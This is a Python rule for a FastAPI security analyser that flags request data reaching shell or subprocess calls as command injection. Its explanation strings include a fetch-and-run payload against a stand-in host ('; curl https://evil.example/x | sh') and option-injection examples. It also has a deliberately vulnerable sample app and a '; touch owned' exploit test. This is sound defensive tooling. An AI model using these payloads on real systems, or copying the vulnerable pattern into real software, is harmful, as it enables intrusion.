"""Text from a request becomes part of a command.

What a shell reads is a program: `; curl ... | sh` behind a host name runs with everything the service may do. Without a shell
the value is one argument, but programs such as git, tar or ssh take an argument that begins with `-` for an option, and
some options run commands. The value is followed from the request to the call that starts the program; numbers, UUIDs,
values of a closed list and `shlex.quote` are harmless.

Known limits: argument lists that are filled by several statements are read as far as they are written in one display. Which
programs run commands for an option is a list of the best known ones.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from fastapi_architect.analyses.request_flows import Flow, flows_to
from fastapi_architect.concepts.process import CommandExecution
from fastapi_architect.rules.kit import (
    AppGraph,
    Confidence,
    Files,
    Finding,
    Proof,
    Rule,
    Severity,
    dotted_name,
    ir,
    walk,
)

rule = Rule(
    __name__,
    "Request data becomes part of a command",
    severity=Severity.CRITICAL,
    cwe=78,
    cvss="AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
    ),
)

_ENDINGS = {
    "shell": "a shell reads it",
    "program": "it names the program that is started",
    "code": "an interpreter runs it",
    "option": "the program may take it for an option",
}
_EXPLOITS = {
    "shell": "{route} with `; curl https://evil.example/x | sh` for `{field}` runs the attacker's script as the service.",
    "program": "{route} with `/bin/sh` (or any program on the machine) for `{field}` starts it as the service.",
    "code": "{route} with code of its own for `{field}` has it run by the interpreter as the service.",
    "option": "{route} with an option such as `--upload-pack=...` or `-oProxyCommand=...` for `{field}` makes the program run it.",
}


@rule.check(per=AppGraph)
def request_data_in_a_command(graph: AppGraph, _: AppGraph) -> Iterator[Finding]:
    told = set()
    for flow in flows_to(graph, "command"):
        told.add(id(flow.sink.node))
        yield _finding(flow, flow.confidence)
    for flow in flows_to(graph, "command-option"):
        if id(flow.sink.node) not in told and not _is_prefixed(flow):
            yield _finding(flow, _at_most_firm(flow.confidence))


def _is_prefixed(flow: Flow) -> bool:
    """On the way the value was put behind other text, so it does not begin with a dash any more."""
    return any(
        node.__class__ is ir.BinOp
        or (node.__class__ is ir.JoinedStr and node.values[:1] and node.values[0].__class__ is ir.Constant)
        for trace in flow.path.traces
        for node in walk(_value_of(trace.node))
    )


def _at_most_firm(confidence: Confidence) -> Confidence:
    return Confidence.FIRM if confidence is Confidence.CERTAIN else confidence


def _value_of(node: Any) -> Any:
    """The call, or what the statement assigns."""
    return getattr(node, "value", node)


def _finding(flow: Flow, confidence: Confidence) -> Finding:
    fact, role = flow.fact, flow.sink.part
    assert isinstance(fact, CommandExecution)
    ending = _ENDINGS[role]
    return rule.at(
        fact,
        f"`{flow.name}` of {flow.carrier}{flow.others} becomes part of this command: {ending}.",
        _suggestion(flow, fact),
        reasoning=(
            f"`{flow.name}` is {flow.sent}. It reaches the call{flow.through} with no check "
            f"against a closed list on the way; {ending}."
        ),
        exploit=_EXPLOITS[role].format(route=flow.attacker, field=flow.field),
        confidence=confidence,
        trace=flow.trace(ending),
        routes=flow.routes,
    )


def _suggestion(flow: Flow, fact: CommandExecution) -> str:
    value = flow.field if flow.field.isidentifier() else "value"
    if flow.sink.part == "program":
        return (
            "Choose the program in the code:\n```python\n"
            f'PROGRAMS = {{"first": ["/usr/bin/first"], "second": ["/usr/bin/second"]}}\ncommand = PROGRAMS[{value}]\n```'
        )
    if flow.sink.part == "option":
        return (
            "Put `--` before it, which ends the options, and refuse what begins with a dash:\n```python\n"
            f'if {value}.startswith("-"):\n    raise HTTPException(422, "not allowed")\n'
            f'command = ["program", "--", {value}]\n```'
        )
    func = dotted_name(fact.node.func)
    if fact.is_async:
        return (
            "Start the program itself, without a shell, with the value behind `--`:\n```python\n"
            f'process = await asyncio.create_subprocess_exec("program", "--", {value})\n```'
        )
    run = func if func.startswith("subprocess.") else "subprocess.run"
    return (
        "Start the program itself, without a shell, with the value behind `--`, and check it against what you allow:\n"
        f'```python\n{run}(["program", "--", {value}])\n```'
    )


_MAIN = """
    from fastapi import FastAPI

    from network import look_up

    app = FastAPI()

    @app.get("/hosts/{name}")
    def host(name: str) -> str:
        return look_up(name)
"""

rule.bad = Files(
    {
        "main.py": _MAIN,
        "network.py": """
        import subprocess

        def look_up(name: str) -> str:
            done = subprocess.run(f"echo looking up {name}", shell=True, capture_output=True, text=True)  # finding: os-command-injection
            return done.stdout
    """,
    }
)

rule.good = Files(
    {
        "main.py": _MAIN,
        "network.py": """
        import subprocess

        def look_up(name: str) -> str:
            done = subprocess.run(["echo", "looking up", name], capture_output=True, text=True)
            return done.stdout
    """,
    }
)


@rule.exploit
def a_name_runs_a_second_command(proof: Proof) -> None:
    """A host name with `; touch owned` behind it makes the shell of the server write a file."""
    assert "shop" in proof.client.get("/hosts/shop").text
    proof.client.get("/hosts/shop; touch owned")
    assert (proof.root / "owned").exists()
